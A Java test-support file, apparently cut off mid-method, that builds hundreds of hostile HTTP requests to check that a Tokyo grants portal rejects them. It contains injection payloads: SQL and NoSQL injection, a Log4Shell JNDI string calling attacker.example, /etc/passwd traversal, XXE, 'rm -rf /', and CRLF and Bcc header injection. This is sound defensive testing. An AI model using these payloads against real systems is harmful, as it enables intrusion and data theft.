package jp.tokyo.monozukuri.endtoend.support;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import jp.tokyo.monozukuri.localstack.StackEndpoints;
import jp.tokyo.monozukuri.localstack.scenario.Actor;
import jp.tokyo.monozukuri.localstack.scenario.StackApi;

/**
 * At least 500 requests a portal would never send and an attacker might: no or forged tokens, roles that may not act,
 * other municipalities' ids, wrong types, huge and deeply nested bodies, fields the APIs do not know, codes that are
 * not Tokyo's, injection strings, wrong methods and media types, steps out of order, recipients and announcement
 * dates Tokyo did not approve, dates no request can carry, retries with and without idempotency keys; coerced
 * numbers and strings and duplicate keys, control and invisible characters in every text field, pages past what an int counts, tokens
 * mixing municipality and staff roles, tokens without roles or for another audience or issuer, a forged Host, what
 * Tomcat refuses itself, and the management endpoints asked for on the portals' ports. Every one of them must be
 * answered 4xx, as a problem, and change nothing.
 */
public final class HostileRequests {

    /** The set grows as classes of defect are added (each category reports its own count); never below this. */
    public static final int AT_LEAST = 500;

    /** The audience the services accept, as the local stack's token issuer writes it. */
    static final String AUDIENCE = "monozukuri-grants";
    /** A Host no answer may repeat (in a Location, a link or a problem's instance). */
    public static final String FORGED_HOST = "evil.example";

    /** One request, exactly as sent. */
    public record Hostile(String category, String method, URI service, String path, Map<String, String> headers,
            byte[] body) {

        @Override
        public String toString() {
            return category + ": " + method + " " + path;
        }
    }

    /**
     * What the requests aim at: municipality A's approved plan, its review, its grant (years far ahead, so nothing
     * can be applied for) and one of its notices; B and the others are other municipalities.
     */
    public record Targets(String codeA, String planA, String reviewA, String grantA, String noticeA,
            int grantFiscalYear, String codeB, List<String> foreignCodes) {
    }

    /** Strings that have broken systems before, none of them a valid value where they are put. */
    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE plans;--", "{\"$gt\": \"\"}", "{\"$ne\": null}",
            "this.status == 'APPROVED' || '1'=='1'", "<script>alert('承認')</script>", "../../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd", "%00", "\u0000", "${jndi:ldap://attacker.example/a}", "#{7*7}",
            "{{7*7}}", "`rm -rf /`", "\u202Eexe.txt", "ＡＤＭＩＮ", "x".repeat(10_000), "\uD800", "null",
            "🏭".repeat(100), "131091\r\nX-Injected: 1", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">");

    private final StackEndpoints endpoints;
    private final Function<Actor, String> bearer;
    private final Function<JWTClaimsSet, String> trusted;
    private final Targets t;
    private final List<Hostile> requests = new ArrayList<>();

    private HostileRequests(StackEndpoints endpoints, Function<Actor, String> bearer,
            Function<JWTClaimsSet, String> trusted, Targets targets) {
        this.endpoints = endpoints;
        this.bearer = bearer;
        this.trusted = trusted;
        this.t = targets;
    }

    /**
     * @param trusted the {@code Authorization} value for claims signed with the key the services trust (the token
     *                issuer's): tokens the issuer itself would never write
     */
    public static List<Hostile> build(StackApi api, Targets targets, Function<JWTClaimsSet, String> trusted) {
        return build(api.endpoints(), api::bearer, trusted, targets);
    }

    /** For the set alone: tokens are not verified, so a claims set needs no real signature. */
    static List<Hostile> build(StackEndpoints endpoints, Function<Actor, String> bearer, Targets targets) {
        return build(endpoints, bearer, claims -> "Bearer unverified-" + claims.getSubject(), targets);
    }

    /** @param bearer the {@code Authorization} value for an actor */
    static List<Hostile> build(StackEndpoints endpoints, Function<Actor, String> bearer,
            Function<JWTClaimsSet, String> trusted, Targets targets) {
        HostileRequests build = new HostileRequests(endpoints, bearer, trusted, targets);
        build.authentication();
        build.roles();
        build.otherMunicipalities();
        build.wrongTypes();
        build.hugeBodies();
        build.unknownFields();
        build.badCodes();
        build.injections();
        build.methodsAndMediaTypes();
        build.stepsOutOfOrder();
        build.recipientsAndEmbargo();
        build.datesInEveryField();
        build.retriesWithAndWithoutIdempotencyKeys();
        build.coercedValuesAndDuplicateKeys();
        build.controlCharacters();
        build.pagingOverflow();
        build.roleMixes();
        build.tokenClaims();
        build.forgedHost();
        build.containerRefusals();
        build.managementOnThePortalsPorts();
        build.roleMixesAndDuties();
        if (build.requests.size() < AT_LEAST) {
            throw new IllegalStateException("built " + build.requests.size() + " hostile requests, fewer than "
                    + AT_LEAST);
        }
        return List.copyOf(build.requests);
    }

    /**
     * 20: separation of duties. Tokens that are the plan's municipality and Tokyo staff at once; the plan's own author
     * (its submitter's subject) holding a staff role; reassigning a review by anyone but an ADMIN or to nobody; and
     * withdrawing a plan Tokyo has already approved.
     */
    private void roleMixesAndDuties() {
        String author = officerA().subject();
        String review = "/api/reviews/" + t.reviewA();
        String planPath = "/api/plans/" + t.planA();
        Actor asReviewer = new Actor(author, List.of("MUNICIPALITY", "REVIEWER"), t.codeA());
        Actor asApprover = new Actor(author, List.of("MUNICIPALITY", "APPROVER"), t.codeA());
        Actor asAdmin = new Actor(author, List.of("MUNICIPALITY", "ADMIN"), t.codeA());
        add("mixed roles acting", "POST", plan(), "/api/plans", asReviewer, planBody(t.codeA(), ""));
        add("mixed roles acting", "POST", plan(), "/api/plans", asAdmin, planBody(t.codeA(), ""));
        add("mixed roles acting", "PUT", plan(), planPath, asReviewer, planBody(t.codeA(), ""));
        add("mixed roles acting", "POST", plan(), planPath + "/withdraw", asApprover, "{\"reason\":\"取下げ\"}");
        add("mixed roles acting", "POST", approval(), review + "/start", asReviewer, null);
        add("mixed roles acting", "POST", approval(), review + "/comments", asReviewer, "{\"text\":\"自分の計画\"}");
        add("mixed roles acting", "POST", approval(), review + "/approve", asApprover, null);
        add("mixed roles acting", "POST", approval(), review + "/reviewer", asAdmin, "{\"reviewer\":\"" + author + "\"}");
        add("separation of duties", "POST", approval(), review + "/start", Actor.reviewer(author), null);
        add("separation of duties", "POST", approval(), review + "/recommend", Actor.reviewer(author), "{}");
        add("separation of duties", "POST", approval(), review + "/approve", Actor.approver(author), null);
        add("separation of duties", "POST", approval(), review + "/reject", Actor.approver(author),
                "{\"reasons\":[\"不備\"]}");
        add("separation of duties", "POST", approval(), review + "/reviewer", REVIEWER,
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", APPROVER,
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", officerA(),
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", ADMIN, "{\"reviewer\":\"\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", ADMIN, "{}");
        add("separation of duties", "POST", approval(), "/api/reviews/no-such-review/reviewer", ADMIN,
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("withdrawal of a decided plan", "POST", plan(), planPath + "/withdraw", officerA(), null);
        add("withdrawal of a decided plan", "POST", plan(), planPath + "/withdraw", officerA(),
                "{\"reason\":\"承認後の取下げ\"}");
    }

    private URI plan() {
        return endpoints.plan();
    }

    private URI approval() {
        return endpoints.approval();
    }

    private URI grant() {
        return endpoints.grant();
    }

    private URI notification() {
        return endpoints.notification();
    }

    private Actor officerA() {
        return Actor.municipality(t.codeA(), "e2e-officer-" + t.codeA());
    }

    private static final Actor REVIEWER = Actor.reviewer("e2e-hostile-reviewer");
    private static final Actor APPROVER = Actor.approver("e2e-hostile-approver");
    private static final Actor ADMIN = Actor.admin("e2e-hostile-admin");

    private void add(String category, String method, URI service, String path, Actor actor, String json) {
        Map<String, String> headers = new LinkedHashMap<>();
        if (actor != null) {
            headers.put("Authorization", bearer.apply(actor));
        }
        if (json != null) {
            headers.put("Content-Type", "application/json");
        }
        requests.add(new Hostile(category, method, service, path, headers,
                json == null ? null : json.getBytes(StandardCharsets.UTF_8)));
    }

    private void raw(String category, String method, URI service, String path, Map<String, String> headers,
            byte[] body) {
        requests.add(new Hostile(category, method, service, path, Map.copyOf(headers), body));
    }

    /** 50: no token, garbage, Basic, an unsigned JWT, a JWT signed by a key nobody trusts, on ten endpoints. */
    private void authentication() {
        String unsigned = base64("{\"alg\":\"none\"}") + "." + base64("{\"sub\":\"x\",\"roles\":[\"ADMIN\"]}") + ".";
        List<String> forged = List.of("Bearer not.a.jwt", "Basic YWRtaW46YWRtaW4=", "Bearer " + unsigned,
                "Bearer " + signedByStranger());
        List<String[]> endpoints = List.of(
                new String[] {"GET", "plan", "/api/plans"}, new String[] {"GET", "plan", "/api/plans/" + t.planA()},
                new String[] {"POST", "plan", "/api/plans"}, new String[] {"GET", "approval", "/api/reviews"},
                new String[] {"POST", "approval", "/api/reviews/" + t.reviewA() + "/approve"},
                new String[] {"GET", "grant", "/api/grants"}, new String[] {"POST", "grant", "/api/budget-resolutions"},
                new String[] {"GET", "notification", "/api/notifications"},
                new String[] {"PUT", "notification", "/api/recipients/" + t.codeA()},
                new String[] {"POST", "notification", "/api/notifications/" + t.noticeA() + "/resend"});
        for (String[] endpoint : endpoints) {
            URI service = service(endpoint[1]);
            byte[] body = endpoint[0].equals("GET") ? null : "{}".getBytes(StandardCharsets.UTF_8);
            Map<String, String> json = body == null ? Map.of() : Map.of("Content-Type", "application/json");
            raw("no token", endpoint[0], service, endpoint[2], json, body);
            for (String authorization : forged) {
                Map<String, String> headers = new LinkedHashMap<>(json);
                headers.put("Authorization", authorization);
                raw("forged token", endpoint[0], service, endpoint[2], headers, body);
            }
        }
    }

    /** 30: roles that may not take the step. */
    private void roles() {
        Actor officerB = Actor.municipality(t.codeB(), "e2e-officer-" + t.codeB());
        String review = "/api/reviews/" + t.reviewA();
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (Actor officer : List.of(officerA(), officerB)) {
            add("wrong role", "POST", approval(), review + "/start", officer, null);
            add("wrong role", "POST", approval(), review + "/recommend", officer, "{}");
            add("wrong role", "POST", approval(), review + "/approve", officer, null);
            add("wrong role", "POST", approval(), review + "/reject", officer, "{\"reasons\":[\"不備\"]}");
            add("wrong role", "POST", approval(), "/api/approval-rounds", officer,
                    "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[\"" + t.reviewA() + "\"]}");
            add("wrong role", "GET", approval(), "/api/approval-rounds", officer, null);
            add("wrong role", "POST", grant(), "/api/budget-resolutions", officer, budget("METROPOLITAN", null));
            add("wrong role", "POST", grant(), year + "/decision", officer, "{\"amountYen\":1000}");
            add("wrong role", "GET", grant(), "/api/grants/summary?fiscalYear=2014", officer, null);
            add("wrong role", "PUT", notification(), "/api/recipients/" + officer.municipalityCode(), officer,
                    "{\"addresses\":[\"intruder@example.jp\"]}");
            add("wrong role", "POST", notification(), "/api/notifications/" + t.noticeA() + "/resend", officer, null);
        }
        add("wrong role", "POST", plan(), "/api/plans", REVIEWER, planBody(t.codeA(), ""));
        add("wrong role", "POST", approval(), review + "/approve", REVIEWER, null);
        add("wrong role", "POST", plan(), "/api/plans/" + t.planA() + "/submit", APPROVER, null);
        add("wrong role", "POST", approval(), review + "/start", APPROVER, null);
        add("wrong role", "POST", grant(), year + "/application", APPROVER, application(""));
        add("wrong role", "POST", grant(), year + "/report", REVIEWER, "{\"actualCostYen\":0,"
                + "\"eligibleActualCostYen\":0,\"otherRevenueYen\":0}");
        add("wrong role", "POST", grant(), "/api/budget-resolutions", REVIEWER, budget("METROPOLITAN", null));
        add("wrong role", "PUT", notification(), "/api/recipients/" + t.codeA(), APPROVER,
                "{\"addresses\":[\"intruder@example.jp\"]}");
    }

    /** 39: a municipality reaching for another's plan, review, grant, notice and recipients — all "not found". */
    private void otherMunicipalities() {
        for (String code : t.foreignCodes().subList(0, 3)) {
            Actor other = Actor.municipality(code, "e2e-officer-" + code);
            String planPath = "/api/plans/" + t.planA();
            String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
            add("other municipality's id", "GET", plan(), planPath, other, null);
            add("other municipality's id", "PUT", plan(), planPath, other, planBody(code, ""));
            add("other municipality's id", "POST", plan(), planPath + "/submit", other, null);
            add("other municipality's id", "POST", plan(), planPath + "/withdraw", other, "{\"reason\":\"取下げ\"}");
            add("other municipality's id", "GET", plan(), planPath + "/revisions", other, null);
            add("other municipality's id", "GET", plan(), planPath + "/revisions/1", other, null);
            add("other municipality's id", "GET", approval(), planPath + "/reviews", other, null);
            add("other municipality's id", "GET", approval(), "/api/reviews/" + t.reviewA(), other, null);
            add("other municipality's id", "GET", grant(), "/api/grants/" + t.grantA(), other, null);
            add("other municipality's id", "POST", grant(), year + "/application", other, application(""));
            add("other municipality's id", "POST", grant(), year + "/report", other, "{\"actualCostYen\":0,"
                    + "\"eligibleActualCostYen\":0,\"otherRevenueYen\":0}");
            add("other municipality's id", "GET", notification(), "/api/notifications/" + t.noticeA(), other, null);
            add("other municipality's id", "GET", notification(), "/api/recipients/" + t.codeA(), other, null);
        }
    }

    /** 60: values of the wrong JSON type, impossible dates and numbers, and query parameters out of range. */
    private void wrongTypes() {
        List<String> planFields = List.of("\"startFiscalYear\":\"二〇一四\"", "\"startFiscalYear\":true",
                "\"startFiscalYear\":[2014]", "\"startFiscalYear\":{\"y\":2014}", "\"startFiscalYear\":2014.5",
                "\"startFiscalYear\":1e400", "\"measures\":\"企業立地\"", "\"measures\":42", "\"measures\":[1]",
                "\"measures\":[{\"title\":{\"ja\":\"x\"},\"projects\":\"x\"}]", "\"contact\":\"03-0000-0000\"",
                "\"figures\":{\"a\":1}", "\"endFiscalYear\":-2016", "\"startFiscalYear\":99999999999",
                "\"measures\":[{\"title\":\"x\",\"projects\":[{\"name\":\"y\",\"plannedCosts\":"
                        + "[{\"fiscalYear\":2040,\"amountYen\":\"many\"}]}]}]");
        for (String field : planFields) {
            add("wrong type", "POST", plan(), "/api/plans", officerA(), planBody(t.codeA(), field));
        }
        List<String> budgetFields = List.of("\"fiscalYear\":\"x\"", "\"fiscalYear\":1999", "\"assembly\":\"CITY\"",
                "\"resolutionDate\":\"13/03/2014\"", "\"resolutionDate\":\"2014-02-30\"",
                "\"budgetedAmountYen\":\"lots\"", "\"budgetedAmountYen\":-5", "\"budgetedAmountYen\":1e30",
                "\"budgetedAmountYen\":0", "\"assembly\":null");
        for (String field : budgetFields) {
            add("wrong type", "POST", grant(), "/api/budget-resolutions", APPROVER, budgetWith(field));
        }
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (String body : List.of("{\"eligibleCostYen\":\"abc\"}", "{\"requestedAmountYen\":[1]}",
                "{\"breakdown\":\"all\"}", "{\"applicationDate\":\"tomorrow\"}", "{\"eligibleCostYen\":-1}")) {
            add("wrong type", "POST", grant(), year + "/application", officerA(), body);
        }
        String review = "/api/reviews/" + t.reviewA();
        for (String body : List.of("{\"reasons\":\"不備\"}", "{\"reasons\":[]}", "{\"reasons\":[\"\"]}",
                "{\"reasons\":null}", "{\"reasons\":[{\"text\":\"x\"}]}")) {
            add("wrong type", "POST", approval(), review + "/return", REVIEWER, body);
        }
        for (String body : List.of("{\"announcementDate\":\"yesterday\",\"reviewIds\":[\"" + t.reviewA() + "\"]}",
                "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":\"" + t.reviewA() + "\"}",
                "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[]}")) {
            add("wrong type", "POST", approval(), "/api/approval-rounds", APPROVER, body);
        }
        for (String body : List.of("{\"addresses\":\"a@example.jp\"}", "{\"addresses\":[1]}",
                "{\"addresses\":[\"not-an-address\"]}", "{\"addresses\":[\"a@b@c\"]}")) {
            add("wrong type", "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN, body);
        }
        for (String query : List.of("page=-1", "size=0", "size=100000", "page=abc", "status=NOPE", "fiscalYear=abc",
                "fiscalYear=99999", "size=1.5")) {
            add("wrong type", "GET", grant(), "/api/grants?" + query, APPROVER, null);
        }
        for (String query : List.of("page=-1", "size=0", "size=101", "status=NOPE", "eventType=plan.exploded")) {
            add("wrong type", "GET", notification(), "/api/notifications?" + query, ADMIN, null);
        }
        for (String query : List.of("page=-1", "page=x", "size=1000", "status=LOST", "municipalityCode=13109")) {
            add("wrong type", "GET", approval(), "/api/reviews?" + query, REVIEWER, null);
        }
    }

    /** 20: bodies of megabytes, thousands of elements, nesting thousands deep, numbers of a million digits. */
    private void hugeBodies() {
        add("huge body", "POST", plan(), "/api/plans", officerA(),
                planBody(t.codeA(), "\"title\":\"" + "計".repeat(1_000_000) + "\""));
        add("huge body", "POST", plan(), "/api/plans", officerA(),
                planBody(t.codeA(), "\"summary\":\"" + "要".repeat(3_000_000) + "\""));
        StringBuilder measures = new StringBuilder("\"measures\":[");
        for (int i = 0; i < 5_000; i++) {
            measures.append(i == 0 ? "" : ",").append("{\"title\":\"施策").append(i).append("\",\"projects\":[]}");
        }
        add("huge body", "POST", plan(), "/api/plans", officerA(), planBody(t.codeA(), measures.append(']').toString()));
        add("huge body", "POST", plan(), "/api/plans", officerA(),
                planBody(t.codeA(), "\"figures\":[" + "\"図\",".repeat(100_000) + "\"図\"]"));
        for (int depth : List.of(2_000, 20_000, 200_000)) {
            add("huge body", "POST", plan(), "/api/plans", officerA(), "[".repeat(depth) + "]".repeat(depth));
            add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER, "{\"a\":".repeat(depth) + "1"
                    + "}".repeat(depth));
        }
        add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER,
                budgetWith("\"budgetedAmountYen\":" + "9".repeat(1_000_000)));
        add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER,
                budgetWith("\"fiscalYear\":0." + "1".repeat(100_000)));
        add("huge body", "POST", approval(), "/api/reviews/" + t.reviewA() + "/return", REVIEWER,
                "{\"reasons\":[" + "\"不備\",".repeat(50_000) + "\"不備\"]}");
        add("huge body", "POST", approval(), "/api/reviews/" + t.reviewA() + "/comments", REVIEWER,
                "{\"text\":\"" + "注".repeat(2_000_000) + "\"}");
        add("huge body", "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN,
                "{\"addresses\":[" + "\"a@example.jp\",".repeat(200_000) + "\"not-an-address\"]}");
        add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER,
                budgetWith("\"resolutionDate\":\"" + "2".repeat(1_000_000) + "\""));
        add("huge body", "POST", approval(), "/api/approval-rounds", APPROVER,
                "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[" + ("\"" + t.reviewA() + "\",").repeat(10_000)
                        + "\"x\"]}");
        add("huge body", "POST", plan(), "/api/plans", officerA(), " ".repeat(8_000_000));
        add("huge body", "POST", plan(), "/api/plans", officerA(), "{\"title\":\"" + "\\u0000".repeat(500_000) + "\"}");
        add("huge body", "POST", grant(), "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear() + "/application",
                officerA(), application(",\"breakdown\":[" + "{\"measureNumber\":1,\"projectName\":\"x\",\"eligibleCostYen\":1},"
                        .repeat(20_000) + "{\"measureNumber\":1,\"projectName\":\"x\",\"eligibleCostYen\":1}]"));
    }

    /** 40: a body the API would take, plus a field it does not know — it must not half-succeed. */
    private void unknownFields() {
        List<String> fields = List.of("\"status\":\"APPROVED\"", "\"id\":\"plan-chosen-by-client\"", "\"version\":0",
                "\"decision\":{\"approved\":true,\"documentNumber\":\"25産労商地第999号\"}", "\"createdBy\":\"admin\"",
                "\"__proto__\":{\"admin\":true}", "\"$where\":\"1\"", "\"revision\":9", "\"approved\":true",
                "\"municipalityCod\":\"131091\"");
        for (String field : fields) {
            add("unknown field", "POST", plan(), "/api/plans", officerA(), planBody(t.codeA(), field));
            add("unknown field", "POST", grant(), "/api/budget-resolutions", APPROVER,
                    withField(budget("MUNICIPAL", t.codeA()), field));
        }
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (String field : List.of("\"approvedAmountYen\":100000000", "\"status\":\"DECIDED\"",
                "\"decidedBy\":\"suzuki\"", "\"documentNumber\":\"26産労商地助第1号\"", "\"grantId\":\"x\"")) {
            add("unknown field", "POST", grant(), year + "/application", officerA(), application("," + field));
            add("unknown field", "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN,
                    "{\"addresses\":[\"" + PlanWave.mailboxOf(t.codeA()) + "\"]," + field + "}");
        }
        for (String field : List.of("\"approve\":true", "\"documentNumber\":\"25産労商地第1号\"",
                "\"decidedBy\":\"suzuki\"", "\"status\":\"APPROVED\"", "\"round\":\"x\"")) {
            add("unknown field", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[\"" + t.reviewA() + "\",\"" + t.reviewA()
                            + "\"]," + field + "}");
            add("unknown field", "POST", approval(), "/api/reviews/" + t.reviewA() + "/comments", REVIEWER,
                    "{\"text\":\"確認済み\"," + field + "}");
        }
    }

    /** 50: municipality codes that are not Tokyo's, or not codes at all. */
    private void badCodes() {
        // none of them valid even after trimming: a blank code would mean "my own" and a padded one is trimmed
        List<String> codes = List.of("131092", "271004", "13109", "1310911", "abcdef", "-131091", "13 1091", "131O91",
                "１３１０９１", "000000");
        for (String code : codes) {
            add("bad code", "POST", plan(), "/api/plans", officerA(), planBody(code, ""));
            add("bad code", "POST", grant(), "/api/budget-resolutions", APPROVER, budget("MUNICIPAL", code));
            add("bad code", "PUT", notification(), "/api/recipients/" + encode(code), ADMIN,
                    "{\"addresses\":[\"a@example.jp\"]}");
            add("bad code", "GET", notification(), "/api/notifications?municipalityCode=" + encode(code), ADMIN, null);
        }
        for (String code : t.foreignCodes()) {
            add("bad code", "POST", plan(), "/api/plans", officerA(), planBody(code, ""));
        }
    }

    /** 132: every injection string as an id in a path, a code in a query and an enum in a body. */
    private void injections() {
        for (String value : INJECTIONS) {
            String encoded = encode(value);
            add("injection", "GET", plan(), "/api/plans/" + encoded, officerA(), null);
            add("injection", "POST", approval(), "/api/reviews/" + encoded + "/approve", APPROVER, null);
            add("injection", "GET", grant(), "/api/grants/" + encoded, APPROVER, null);
            add("injection", "GET", notification(), "/api/notifications/" + encoded, ADMIN, null);
            add("injection", "GET", approval(), "/api/reviews?municipalityCode=" + encoded, REVIEWER, null);
            add("injection", "POST", grant(), "/api/budget-resolutions", APPROVER,
                    budgetWith("\"assembly\":" + jsonString(value)));
        }
    }

    /** 10: methods the APIs do not offer, bodies that are not JSON, answers nobody can give. */
    private void methodsAndMediaTypes() {
        String planPath = "/api/plans/" + t.planA();
        add("method or media type", "PATCH", plan(), planPath, officerA(), "{\"title\":\"x\"}");
        add("method or media type", "DELETE", plan(), planPath, officerA(), null);
        add("method or media type", "PUT", approval(), "/api/reviews/" + t.reviewA(), APPROVER, "{}");
        add("method or media type", "DELETE", grant(), "/api/grants/" + t.grantA(), ADMIN, null);
        Map<String, String> text = Map.of("Authorization", bearer.apply(officerA()), "Content-Type", "text/plain");
        raw("method or media type", "POST", plan(), "/api/plans", text, "title=x".getBytes(StandardCharsets.UTF_8));
        Map<String, String> xml = Map.of("Authorization", bearer.apply(officerA()), "Content-Type", "application/xml");
        raw("method or media type", "POST", plan(), "/api/plans", xml,
                "<plan><title>x</title></plan>".getBytes(StandardCharsets.UTF_8));
        Map<String, String> form = Map.of("Authorization", bearer.apply(officerA()),
                "Content-Type", "application/x-www-form-urlencoded");
        raw("method or media type", "POST", plan(), "/api/plans", form, "title=x".getBytes(StandardCharsets.UTF_8));
        raw("method or media type", "POST", plan(), "/api/plans",
                Map.of("Authorization", bearer.apply(officerA()), "Content-Type", "application/json"), new byte[0]);
        raw("method or media type", "GET", plan(), planPath,
                Map.of("Authorization", bearer.apply(officerA()), "Accept", "application/xml"), null);
        raw("method or media type", "GET", notification(), "/api/press-releases/" + t.planA(),
                Map.of("Accept", "image/png"), null);
    }

    /** 69: steps the state of the plan, review and grant does not allow. */
    private void stepsOutOfOrder() {
        String planPath = "/api/plans/" + t.planA();
        String review = "/api/reviews/" + t.reviewA();
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (int round = 0; round < 3; round++) {
            add("step out of order", "POST", plan(), planPath + "/submit", officerA(), null);
            add("step out of order", "POST", plan(), planPath + "/withdraw", officerA(), "{\"reason\":\"取下げ\"}");
            add("step out of order", "PUT", plan(), planPath, officerA(), planBody(t.codeA(), ""));
            Map<String, String> stale = new LinkedHashMap<>(Map.of("Authorization", bearer.apply(officerA()),
                    "Content-Type", "application/json", "If-Match", "\"0\""));
            raw("step out of order", "PUT", plan(), planPath, stale,
                    planBody(t.codeA(), "").getBytes(StandardCharsets.UTF_8));
            add("step out of order", "POST", approval(), review + "/start", REVIEWER, null);
            add("step out of order", "POST", approval(), review + "/recommend", REVIEWER, "{}");
            add("step out of order", "POST", approval(), review + "/return", REVIEWER, "{\"reasons\":[\"再審査\"]}");
            add("step out of order", "POST", approval(), review + "/approve", APPROVER, null);
            add("step out of order", "POST", approval(), review + "/reject", APPROVER, "{\"reasons\":[\"不承認\"]}");
            add("step out of order", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[\"" + t.reviewA() + "\",\"" + t.reviewA() + "\"]}");
            add("step out of order", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"2000-01-01\",\"reviewIds\":[\"" + t.reviewA() + "\"]}");
            add("step out of order", "POST", grant(), year + "/application", officerA(), application(""));
            add("step out of order", "POST", grant(), year + "/decision", APPROVER, "{\"amountYen\":1000000}");
            add("step out of order", "POST", grant(), year + "/report", officerA(), "{\"actualCostYen\":1,"
                    + "\"eligibleActualCostYen\":1,\"otherRevenueYen\":0}");
            add("step out of order", "POST", grant(), year + "/confirmation", APPROVER, "{}");
            add("step out of order", "POST", grant(), year + "/payments", APPROVER, "{\"amountYen\":1000}");
            add("step out of order", "POST", grant(), year + "/refund", APPROVER, "{\"amountYen\":1000}");
            add("step out of order", "POST", grant(), year + "/closure", APPROVER, null);
            add("step out of order", "POST", grant(), "/api/grants/" + t.grantA() + "/years/1999/application",
                    officerA(), application(""));
            add("step out of order", "POST", plan(), "/api/plans/" + t.planA() + "/revisions/0", officerA(), null);
            add("step out of order", "GET", plan(), "/api/plans/" + t.planA() + "/revisions/99", officerA(), null);
            add("step out of order", "POST", approval(), "/api/approval-rounds/no-such-round/publish", APPROVER, null);
            add("step out of order", "POST", notification(), "/api/notifications/no-such-notice/resend", ADMIN, null);
        }
    }

    /**
     * 20: recipients Tokyo did not approve for A — outside mailboxes, another municipality's, look-alike domains, more
     * than ten — and announcement dates outside the window (before today, more than a year ahead, beyond any year).
     * What plan contacts can do is checked by its outcome in HostileRequestsTest.
     */
    private void recipientsAndEmbargo() {
        String recipients = "/api/recipients/" + t.codeA();
        String approvedDomain = "m" + t.codeA() + ".monozukuri.example.jp";
        List<String> notApproved = new ArrayList<>(List.of("intruder@attacker.example", "INTRUDER@ATTACKER.EXAMPLE",
                PlanWave.mailboxOf(t.codeB()), "a@" + approvedDomain + ".attacker.example", "a@x" + approvedDomain,
                PlanWave.mailboxOf(t.codeA()) + ".evil.example", "other-" + PlanWave.mailboxOf(t.codeA())));
        t.foreignCodes().subList(2, 5).forEach(code -> notApproved.add("sangyo@m" + code + ".monozukuri.example.jp"));
        for (String address : notApproved) {
            add("recipient not approved", "PUT", notification(), recipients, ADMIN,
                    "{\"addresses\":[\"koho@" + approvedDomain + "\",\"" + address + "\"]}");
        }
        add("recipient not approved", "PUT", notification(), "/api/recipients/" + t.codeB(), ADMIN,
                "{\"addresses\":[\"" + PlanWave.mailboxOf(t.codeA()) + "\"]}");
        for (int count : List.of(11, 50)) {
            StringBuilder many = new StringBuilder("{\"addresses\":[");
            for (int i = 0; i < count; i++) {
                many.append(i == 0 ? "" : ",").append("\"r").append(i).append('@').append(approvedDomain).append('"');
            }
            add("too many recipients", "PUT", notification(), recipients, ADMIN, many.append("]}").toString());
        }
        add("recipient not approved", "PUT", notification(), recipients, ADMIN,
                "{\"addresses\":[],\"blocked\":[\"not-an-address\"]}");
        add("recipient not approved", "PUT", notification(), recipients, ADMIN,
                "{\"addresses\":[\"" + PlanWave.mailboxOf(t.codeA()) + "\\r\\nBcc: intruder@attacker.example\"]}");
        for (String date : List.of("2014-03-12", "2015-03-14", "2999-12-31", "+999999999-12-31", "-0001-01-01")) {
            add("announcement date out of window", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"" + date + "\",\"reviewIds\":[\"" + t.reviewA() + "\"]}");
        }
    }

    /** Dates no request of the program can carry: the ISO extremes, year 1, 9999, the day before FY2012. */
    static final List<String> IMPLAUSIBLE_DATES = List.of("+999999999-12-31", "-0001-01-01", "0001-01-01",
            "9999-12-31", "2011-03-31");

    /** 55: every date field of every request (11) with every implausible date: each a 400, never a 5xx. */
    private void datesInEveryField() {
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (String date : IMPLAUSIBLE_DATES) {
            String quoted = jsonString(date);
            add("date in every field", "POST", grant(), "/api/budget-resolutions", APPROVER,
                    budgetWith("\"resolutionDate\":" + quoted));
            add("date in every field", "POST", grant(), year + "/application", officerA(),
                    "{\"applicationDate\":" + quoted + ",\"eligibleCostYen\":2000000,\"requestedAmountYen\":1000000,"
                            + "\"breakdown\":[{\"measureNumber\":1,\"projectName\":\"立地奨励金の交付\","
                            + "\"eligibleCostYen\":2000000}]}");
